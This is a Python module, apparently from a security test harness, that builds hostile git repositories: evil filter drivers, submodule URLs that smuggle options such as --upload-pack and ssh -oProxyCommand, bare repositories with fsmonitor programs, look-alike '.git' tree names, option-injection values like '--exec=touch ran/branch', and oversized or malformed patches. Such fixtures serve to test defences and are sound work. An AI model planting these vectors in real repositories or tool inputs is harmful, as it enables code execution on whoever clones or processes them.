"""What git itself obeys in a repository: attributes, modules, hooks, monitors, odd objects."""

from __future__ import annotations

from functools import partial

from attacks.forgery import Forgery
from attacks.kinds import hostile
from attacks.kinds.names import CONFIG, HEAD

NEW_FILE = "diff --git a/{path} b/{path}\nnew file mode 100644\n--- /dev/null\n+++ b/{path}\n"
SUBMODULE = '[submodule "{name}"]\n\tpath = {path}\n\turl = {url}\n\tupdate = !{program}\n'


@hostile("git-filter")
def filters(run: Forgery) -> None:
    lines = "* filter=evil diff=evil merge=evil\n*.lock -text working-tree-encoding=UTF-16\n"
    settings = f'[filter "evil"]\n\tsmudge = {run.lab.program("filter")}\n'
    run.commit({".gitattributes": lines, ".gitconfig": settings})


@hostile("git-eol-attributes")
def attributes_of_lock(run: Forgery) -> None:
    run.commit({".gitattributes": "dvc.lock ident eol=crlf\ndvc.yaml export-subst\n"})


def submodule(path: str, url: str, run: Forgery) -> None:
    url = url.format(at=run.lab.listener.address, lab=run.lab.root)
    text = SUBMODULE.format(name=path, path=path, url=url, program=run.lab.program("hook"))
    run.lab.commit({".gitmodules": text})
    run.of_commit(run.lab.commit_objects({path: ("160000", b"3" * 40)}))


for _name, (_path, _url) in {
    "parent": ("../..", "{at}/git/evil"),
    "git": (".git", "{at}/git/evil"),
    "ext": ("m", "ext::{lab}/programs/hook"),
    "option": ("m", "--upload-pack={lab}/programs/hook"),
    "ssh": ("m", "ssh://-oProxyCommand={lab}/programs/hook/x"),
    "file": ("m", "file://{lab}/project"),
    "endless": ("m", "{at}/endless"),
    "dash": ("-x", "{at}/git/evil"),
}.items():
    hostile(f"git-submodule-{_name}")(partial(submodule, _path, _url))


@hostile("git-bare-inside")
def bare_inside(run: Forgery) -> None:
    """A bare repository as plain files, which git finds when it is called in there."""
    config = CONFIG.replace("bare = false", "bare = true").format(
        program=run.lab.program("fsmonitor")
    )
    config += f"\tworktree = {run.lab.root}\n"
    files = {"config": config, "HEAD": HEAD, "objects/x": "x", "refs/heads/x": "x", "index": "x"}
    run.commit({f"data/bare/{name}": text for name, text in files.items()})


def odd_tree(name: str, mode: str, run: Forgery) -> None:
    content = b"[core]\n\tfsmonitor = x\n"
    if mode == "40000":
        inner = b"100644 config\0" + bytes.fromhex(run.lab.object("blob", content))
        content = run.lab.object("tree", inner).encode()
    if mode == "120000":
        content = str(run.lab.canary).encode()
    run.of_commit(run.lab.commit_objects({name: (mode, content)}))


for _name, (_path, _mode) in {
    "git": (".git", "40000"),
    "upper": (".GIT", "40000"),
    "ntfs": ("git~1", "40000"),
    "joiner": (".g\u200cit", "40000"),
    "parent": ("..", "40000"),
    "gitmodules-link": (".gitmodules", "120000"),
    "modules-upper": (".GITMODULES", "120000"),
}.items():
    hostile(f"git-tree-{_name}")(partial(odd_tree, _path, _mode))


@hostile("git-sha-option")
def sha_option(run: Forgery) -> None:
    run.said["git"]["sha"] = "--output=ran/sha"


@hostile("git-branch-option")
def branch_option(run: Forgery) -> None:
    run.said["git"] |= {"branch": "--exec=touch ran/branch", "sha": "4" * 40}


@hostile("git-huge-patch")
def huge_patch(run: Forgery) -> None:
    lines = "".join(f"+{number}\n" for number in range(500_000))
    run.add_patch(f"{NEW_FILE.format(path='x')}@@ -0,0 +1,500000 @@\n{lines}".encode())


@hostile("git-patch-garbage")
def garbage(run: Forgery) -> None:
    run.add_patch(b"\0\xff diff --git a/x b/x\nGIT binary patch\nliteral 99999999999\nzzzz\n\n")


@hostile("git-patch-of-submodule")
def patch_of_submodule(run: Forgery) -> None:
    run.add_patch(b"")
    patch = f"{NEW_FILE.format(path='config')}@@ -0,0 +1 @@\n+x\n".encode()
    run.files["submodules/../.git/code.patch"] = patch
    run.files["submodules/.git/code.patch"] = patch
